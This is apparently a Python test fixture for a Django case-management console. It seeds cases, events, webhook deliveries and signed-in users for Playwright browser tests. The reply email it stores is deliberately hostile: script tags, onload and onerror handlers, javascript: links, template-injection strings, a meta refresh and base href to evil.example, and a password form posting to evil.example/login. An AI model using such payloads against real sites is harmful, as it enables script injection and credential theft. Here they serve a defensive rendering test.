"""A console with something on every page, and people signed in to it; must not drive a browser's clicks."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from urllib.parse import urlsplit
from uuid import uuid4

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.test import Client as HttpClient
from playwright.sync_api import BrowserContext

from agentmail.models import InboundEmail, SuppressedAddress
from cases import ledger
from cases.models import AgentRun, Case, CaseEvent, InputRequest
from cases.workflow import EventKind
from tests.cases.admin.groups import GROUPS, seed_groups
from tests.cases.factories import CaseFactory, make_api_key
from tests.cases.mail import store_reply, store_sent_mail
from webhooks.models import Delivery
from webhooks.services import record_delivery

MORNING = datetime(2026, 11, 24, 8, 0, tzinfo=UTC)

HOSTILE_TEXT = """Hello <script>document.title = "owned"</script>

<img src="http://tracker.example/pixel.png" onerror="document.title='owned'">
{{ 7 }} {% debug %} javascript:alert(1)"""
HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">
<style>@import url(http://evil.example/b.css); body { background: url(http://evil.example/c.png) }</style></head>
<body onload="top.document.title='owned'"><script>top.document.title = "owned"; parent.location = "http://evil.example/"</script>
<p>Here is the <b>signed form</b>.</p><img src="http://tracker.example/pixel.png">
<form action="http://evil.example/login"><input name="password" type="password"><button>Sign in</button></form>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object>
<a href="javascript:alert(1)">the form</a> <svg onload="top.document.title='owned'"></svg></body></html>"""


@dataclass(frozen=True)
class Console:
    """One of everything; the case waits for an answer and has a dead event and a hostile mail."""

    case: Case
    mail: InboundEmail
    dead_event: CaseEvent
    delivery: Delivery


def fill_console() -> Console:
    """Makes the rows; the groups are those of the migration."""
    seed_groups()
    key, _ = make_api_key()
    case = CaseFactory.create(
        client=key.client,
        objective="Collect a signed W-9 from Maya at Northstar <script>document.title='owned'</script>",
        knowledge={"Why": "Invoice 1042 can be paid once the form is on file.", "private": "The budget is 900."},
        constraints=["Never promise a date"],
        status="INPUT_NEEDED",
        attempt_count=1,
        thread_id="thread/1",
        result={"legalName": "Northstar LLC"},
        result_schema={"type": "object", "properties": {"legalName": {"type": "string"}}, "required": ["legalName"]},
        client_webhook_url="https://client.example/hook",
    )
    store_sent_mail(case, "Hello Maya,\n\ncould you please send me a signed W-9?", MORNING)
    mail = store_reply(
        case, HOSTILE_TEXT, MORNING + timedelta(hours=1), html=HOSTILE_HTML, headers={"X-Odd": "<b>bold</b>"}
    )
    InputRequest.objects.create(case=case, question="Old name or new name?", requested_at=MORNING + timedelta(hours=2))
    dead_event = _record_events(case)
    delivery = record_delivery(
        event_id=f"evt_{case.id}_case_input_needed_1",
        event_type="case.input_needed",
        owner=case.id,
        subscriber=case.client_id,
        url=case.client_webhook_url,
        body={"event_type": "case.input_needed"},
        now=MORNING,
    )
    SuppressedAddress.objects.create(address="gone@northstar.example", reason="bounced", created_at=MORNING)
    for status, end in (("RUNNING", ""), ("COMPLETED", "goal_achieved"), ("FAILED", "max_retries")):
        CaseFactory.create(client=key.client, status=status, result_status=end, attempt_count=1)
    return Console(case=case, mail=mail, dead_event=dead_event, delivery=delivery)


def _record_events(case: Case) -> CaseEvent:
    for kind, status, words in (
        (EventKind.CASE_CREATED, "done", {"summary": "The first message was sent."}),
        (EventKind.REPLY_RECEIVED, "dead", {"last_error": "ValueError: the reply could not be read", "failures": 5}),
    ):
        key = f"e2e:{uuid4()}"
        ledger.record(case_id=case.id, kind=kind, key=key, payload={})
        CaseEvent.objects.filter(key=key).update(status=status, finished_at=MORNING, **words)
    created, dead = case.events.order_by("id")
    AgentRun.objects.create(
        case=case,
        event=created,
        operation="draft_outreach",
        decision={},
        rationale="The request of the objective.",
        implementation="offline",
        created_at=MORNING,
    )
    return dead


def sign_in(context: BrowserContext, url: str, group: str) -> None:
    """Signs somebody of the group in to the browser; "nobody" is staff without any right, "superuser" may do all."""
    user = get_user_model().objects.create_user(group.lower(), is_staff=True, is_superuser=group == "superuser")
    if group in GROUPS:
        user.groups.add(Group.objects.get(name=group))
    client = HttpClient()
    client.force_login(user)
    host = urlsplit(url).hostname or ""
    cookie = client.cookies["sessionid"].value
    context.add_cookies([{"name": "sessionid", "value": cookie, "domain": host, "path": "/"}])
